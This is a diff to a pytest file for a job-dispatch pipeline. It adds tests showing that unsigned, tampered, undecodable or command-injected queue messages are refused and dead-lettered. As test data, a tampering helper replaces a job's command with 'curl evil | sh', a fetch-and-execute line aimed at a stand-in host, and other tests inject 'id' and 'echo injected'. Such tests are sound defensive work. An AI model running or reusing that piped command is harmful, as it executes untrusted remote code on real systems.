@@ -9,7 +9,8 @@ from kombu.exceptions import OperationalError
 
 from hydra import clock, names
 from hydra.broker.due import DueIndex
-from hydra.dispatch.pipeline import build_message, summary
+from hydra.dispatch import signing
+from hydra.dispatch.pipeline import Republished, build_message, summary
 from hydra.errors import InvalidJob
 from hydra.model.priority import broker_level
 from hydra.model.records import Chain
@@ -74,8 +75,17 @@ def test_a_follow_up_attempt_carries_its_chain_in_the_record_and_the_headers(mem
     where = memory.pipeline.dispatch(stored(memory), attempt=3, chain=Chain("r1", lost=1, failed=1))
     run = memory.pipeline.runs.get(where.run_id)
     assert (run.attempt, run.retry_of, run.lost, run.failed) == (3, "r1", 1, 1)
-    headers = memory.app.sent[0].options["headers"]
+    headers = dict(memory.app.sent[0].options["headers"])
+    signature = headers.pop(signing.HEADER)
     assert headers == {"hydra_retry_of": "r1", "hydra_lost": 1, "hydra_failed": 1}
+    sent = memory.app.sent[0]
+    chain = Chain.from_headers(headers)
+    assert signing.verify(where.run_id, sent.name, sent.kwargs, chain, signature) is None
+    # the signature covers the chain, the kwargs and the run id
+    assert "tampered" in signing.verify(where.run_id, sent.name, sent.kwargs, Chain("r1", 0, 1), signature)
+    assert "tampered" in signing.verify(where.run_id, sent.name, {**sent.kwargs, "command": "id"}, chain, signature)
+    assert "tampered" in signing.verify("other", sent.name, sent.kwargs, chain, signature)
+    assert "not signed" in signing.verify(where.run_id, sent.name, sent.kwargs, chain, None)
 
 
 def test_apply_async_without_a_job_gets_one_and_goes_through_the_same_steps(memory):
@@ -95,9 +105,7 @@ def test_apply_async_without_a_job_gets_one_and_goes_through_the_same_steps(memo
 def test_apply_async_to_a_named_queue_is_recorded_there_without_placement(memory):
     memory.worker("gpu1", tags={"gpu"})
     job = stored(memory)
-    memory.pipeline.accept(
-        None, {"command": "x", "user": "rich", "job_id": job.id}, {"task_id": "r2", "queue": "hydra.worker.gpu1@host"}
-    )
+    memory.pipeline.accept(None, {"job_id": job.id}, {"task_id": "r2", "queue": "hydra.worker.gpu1@host"})
     run = memory.pipeline.runs.get("r2")
     assert (run.status, run.worker_id) == ("queued", "gpu1@host")
     assert memory.queue_of("r2") == "hydra.worker.gpu1@host" and memory.registry.loads() == {}
@@ -121,13 +129,25 @@ def test_an_invalid_message_is_refused_before_anything_is_stored_or_sent(memory,
 
 
 class Message:
-    """A message taken back from a queue (what kombu hands the controller)."""
+    """A message taken back from a queue (what kombu hands the controller), signed as the
+    pipeline signs (``signed=False``: as anyone else would send it)."""
 
-    def __init__(self, run_id, kwargs, priority=3):
-        self.headers = {"id": run_id, **Chain().headers()}
-        self.payload = ((), kwargs, {})
+    content_type = "application/json"
+    delivery_info = {"routing_key": names.PENDING_QUEUE}
+
+    def __init__(self, run_id, kwargs, priority=3, *, signed=True):
+        self.headers = {"id": run_id, "task": names.TASK_RUN_COMMAND, **Chain().headers()}
+        if signed:
+            self.headers[signing.HEADER] = signing.sign(run_id, names.TASK_RUN_COMMAND, kwargs, Chain())
+        self._payload = ((), kwargs, {})
         self.properties = {"priority": priority}
         self.acked = self.requeued = False
+
+    @property
+    def payload(self):
+        if isinstance(self._payload, Exception):
+            raise self._payload
+        return self._payload
 
     def ack(self):
         self.acked = True
@@ -140,12 +160,12 @@ def test_a_pending_message_is_placed_once_a_worker_can_take_it(memory):
     job = stored(memory)
     where = memory.pipeline.dispatch(job)
     message = Message(where.run_id, build_message(job, 1))
-    assert not memory.pipeline.republish(message, only_if_placeable=True)
-    assert message.requeued and len(memory.app.sent) == 1
+    assert memory.pipeline.republish(message, only_if_placeable=True) == Republished.WAITING
+    assert not (message.acked or message.requeued) and len(memory.app.sent) == 1  # the caller puts it back
 
     memory.worker("gpu1", tags={"gpu"})
     message = Message(where.run_id, message.payload[1])
-    assert memory.pipeline.republish(message, only_if_placeable=True)
+    assert memory.pipeline.republish(message, only_if_placeable=True) == Republished.SENT
     assert message.acked and memory.pipeline.runs.get(where.run_id).status == "queued"
     assert memory.app.sent[-1].options["priority"] == 3  # the level it was published with
 
@@ -155,7 +175,7 @@ def test_a_message_of_an_ended_or_claimed_attempt_is_dropped(memory):
     where = memory.pipeline.dispatch(stored(memory))
     memory.pipeline.runs.claim(where.run_id, message=memory.app.sent[0].kwargs, worker_id="gpu1@host")
     message = Message(where.run_id, memory.app.sent[0].kwargs)
-    assert not memory.pipeline.republish(message, only_if_placeable=False)
+    assert memory.pipeline.republish(message, only_if_placeable=False) == Republished.DROPPED
     assert message.acked and len(memory.app.sent) == 1
 
 
@@ -172,3 +192,65 @@ def test_the_due_index_hands_out_only_runs_whose_time_has_come(memory):
     due.add("later", now + timedelta(seconds=60))
     due.add("now", now - timedelta(seconds=1))
     assert due.due(now) == ["now"] and due.size() == 2
+
+
+def test_a_message_for_a_stored_job_runs_the_job_as_stored(memory):
+    """The injection: a message naming alice's job but carrying another command is refused."""
+    memory.worker("gpu1", tags={"gpu"})
+    job = stored(memory)
+    with pytest.raises(InvalidJob) as info:
+        memory.pipeline.accept(None, {"job_id": job.id, "user": "rich", "command": "echo injected"}, {"task_id": "i"})
+    assert "command" in info.value.errors and "differs from stored job" in info.value.errors["command"][0]
+    assert memory.pipeline.runs.find("i") is None and not memory.app.sent
+    memory.pipeline.accept(None, {"job_id": job.id, "command": "make"}, {"task_id": "ok"})
+    assert memory.app.sent[-1].kwargs["command"] == "make" and memory.app.sent[-1].kwargs["env"] == BODY["env"]
+
+
+@pytest.mark.parametrize("options", [{"serializer": "pickle"}, {"serializer": "yaml"}, {"compression": "zlib"}])
+def test_only_json_messages_are_accepted(memory, options):
+    memory.worker("gpu1", tags={"gpu"})
+    with pytest.raises(InvalidJob) as info:
+        memory.pipeline.accept(None, {"command": "x", "user": "u"}, {"task_id": "p", **options})
+    assert set(info.value.errors) <= {"serializer", "compression"}
+    assert memory.pipeline.runs.find("p") is None and not memory.app.sent
+
+
+@pytest.mark.parametrize(
+    "make, reason",
+    [
+        (lambda run_id, kwargs: Message(run_id, kwargs, signed=False), "not signed"),
+        (lambda run_id, kwargs: _tampered(Message(run_id, kwargs)), "tampered"),
+        (lambda run_id, kwargs: _undecodable(Message(run_id, kwargs)), "undecodable"),
+    ],
+)
+def test_a_bad_message_in_pending_is_recorded_and_never_sent_again(memory, make, reason):
+    memory.worker("gpu1", tags={"gpu"})
+    kwargs = build_message(stored(memory), 1)
+    message = make("forged-run", kwargs)
+    assert memory.pipeline.republish(message, only_if_placeable=True) == Republished.DROPPED
+    assert message.acked and not memory.app.sent  # dropped, not laundered by re-signing
+    run = memory.pipeline.runs.get("forged-run")
+    assert run.status == "dead_letter" and reason in run.error and run.ended_by == "controller"
+    # placement goes on: a good message behind it is placed
+    good = memory.pipeline.dispatch(stored(memory))
+    good_message = Message(good.run_id, memory.app.sent[-1].kwargs)
+    assert memory.pipeline.republish(good_message, only_if_placeable=True) == Republished.SENT
+
+
+def test_a_forged_message_naming_a_real_run_cannot_end_it(memory):
+    where = memory.pipeline.dispatch(stored(memory))  # pending: no worker
+    forged = Message(where.run_id, {**memory.app.sent[0].kwargs, "command": "id"}, signed=False)
+    assert memory.pipeline.republish(forged, only_if_placeable=True) == Republished.DROPPED
+    run = memory.pipeline.runs.get(where.run_id)
+    assert run.status == "pending" and "not signed" in run.refusals[0]["reason"]
+
+
+def _tampered(message):
+    _args, kwargs, _embed = message.payload
+    message._payload = ((), {**kwargs, "command": "curl evil | sh"}, {})
+    return message
+
+
+def _undecodable(message):
+    message._payload = ValueError("unpickling is not allowed")
+    return message
